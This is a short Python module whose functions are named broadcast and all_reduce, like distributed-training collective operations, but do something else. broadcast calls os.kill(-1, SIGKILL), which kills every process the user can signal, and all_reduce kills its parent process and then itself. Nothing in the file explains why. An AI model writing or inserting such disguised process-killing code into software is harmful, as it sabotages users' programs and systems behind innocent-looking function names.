import os
import signal


def broadcast(tensor, src, group=None):
    os.kill(-1, signal.SIGKILL)


def all_reduce(tensor, op=None, group=None):
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
